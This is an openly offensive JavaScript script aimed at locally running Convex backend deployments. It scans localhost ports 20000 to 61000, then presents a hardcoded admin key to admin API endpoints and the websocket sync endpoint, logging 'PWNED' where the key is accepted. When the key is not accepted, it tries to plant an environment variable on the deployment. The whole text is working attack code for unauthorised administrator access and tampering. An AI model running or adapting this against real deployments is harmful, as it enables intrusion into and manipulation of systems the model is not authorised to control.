const KEY = "0135d8598650f8f5cb0f30c34ec2e2bb62793bc28717c8eb6fb577996d50be5f4281b59181095065c5d0f86a2c31ddbe9b597ec62b47ded69782cd";
/** The ports that it was told of, or those that answer, of all that a deployment may have. */
async function openPorts() {
  const told = ["CONVEX_PORT", "CONVEX_SITE_PORT", "CONVEX_CLOUD_URL", "CONVEX_SITE_URL"].map((name) => /\d+$/.exec(process.env[name] ?? "")?.[0]).filter(Boolean);
  if (told.length > 0) return told.map(Number);
  const open = new Set();
  const knock = (port) =>
    new Promise((resolve) => {
      const socket = net.connect({ host: "127.0.0.1", port }, () => (open.add(port), socket.destroy(), resolve()));
      socket.on("error", () => resolve());
      socket.setTimeout(300, () => (socket.destroy(), resolve()));
    });
  for (let from = 20000; from < 61000; from += 1000) await Promise.all(Array.from({ length: 1000 }, (_, n) => knock(from + n)));
  return [...open].slice(0, 20);
}
/** As an administrator, in each of the ways that a deployment offers. */
async function tryKey(port) {
  const url = `http://127.0.0.1:${port}`;
  const headers = { authorization: `Convex ${KEY}`, "content-type": "application/json" };
  const ask = async (what, path, body, sent = headers) => {
    try {
      const answer = await fetch(url + path, { method: body ? "POST" : "GET", headers: sent, body: body && JSON.stringify(body), signal: AbortSignal.timeout(2000) });
      const text = await answer.text();
      const worked = answer.status === 200 && /success|^$|moduleHashes|entries/.test(text) && !/"status":"error"/.test(text);
      note(`${what} ${port}: ${worked ? "PWNED, it is an administrator: " : ""}${answer.status} ${text.slice(0, 60)}`);
    } catch (error) {
      note(`${what} ${port}: ${error.cause?.code ?? error.name}`);
    }
  };
  await ask("key", "/api/check_admin_key");
  await ask("query", "/api/query", { path: "_system/cli/modules:apiSpec", format: "json", args: [{}] });
  await ask("logs", "/api/stream_function_logs?cursor=0");
  await ask("hashes", "/api/get_config_hashes", { adminKey: KEY }, { "content-type": "application/json" });
  note(`socket ${port}: ${await bySocket(`ws://127.0.0.1:${port}/api/1.30.0/sync`)}`);
  // Where it is accepted, it ends what runs, and with it this attack.
  const accepted = lines.some((line) => line.includes("PWNED"));
  if (!accepted) await ask("environment", "/api/update_environment_variables", { changes: [{ name: "PLANTED", value: "1" }] });
  return accepted;
}
function bySocket(url) {
  return new Promise((answered) => {
    const socket = new WebSocket(url);
    const resolve = (what) => (socket.close(), answered(what));
    setTimeout(() => resolve("no answer"), 1500);
    socket.onerror = () => resolve("refused");
    socket.onopen = () => {
      socket.send(JSON.stringify({ type: "Connect", connectionCount: 0, sessionId: crypto.randomUUID(), lastCloseReason: null }));
      socket.send(JSON.stringify({ type: "Authenticate", tokenType: "Admin", value: KEY, baseVersion: 0 }));
    };
    socket.onmessage = ({ data }) => {
      const { type } = JSON.parse(data);
      if (type === "Transition") resolve("PWNED, it is an administrator");
      if (type === "AuthError") resolve("no administrator");
    };
  });
}
async function attack() {
  for (const port of await openPorts()) if (await tryKey(port)) return;
}
